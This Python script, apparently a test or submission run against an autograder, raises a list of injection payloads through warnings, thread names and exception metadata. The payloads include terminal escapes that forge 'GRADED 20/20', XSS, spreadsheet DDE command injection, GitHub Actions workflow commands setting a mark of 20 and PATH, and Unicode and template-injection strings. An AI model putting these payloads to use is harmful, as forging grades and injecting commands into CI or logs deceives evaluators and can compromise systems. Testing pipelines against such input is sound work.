import threading
import warnings

from attempt import *

EVIL = [
    "\x1b]0;owned\x07\x1b[2J\x1b[31mGRADED 20/20\x1b[0m\x9b31m\r\x08\x08",
    "<script>alert(1)</script><img src=x onerror=alert(1)>'\"&lt;]]><!--",
    "=HYPERLINK(\"http://192.0.2.1\",\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1", "\t=1",
    "::error file=x::owned", "\n::set-output name=mark::20\n", "##[set-env name=PATH]x", "\n::stop-commands::x",
    "\u202e\u2066\u200b\ufeff" + "Z\u0300" * 400, "\U0001f468\u200d" * 500, "{{ 7*7 }}{% raw %}", "</pre></body>\x00\x01\x7f\u2028\u2029",
]

threading.current_thread().name = EVIL[0]
for text in EVIL:
    warnings.warn(text)
    try:
        raise type(text.replace("\0", ""), (Exception,), {"__module__": text})(text)
    except Exception:
        pass
exec(compile("def f():\n raise type(EVIL[1], (OSError,), {'__module__': EVIL[0]})(''.join(EVIL))\nf()", "server.py", "exec"))
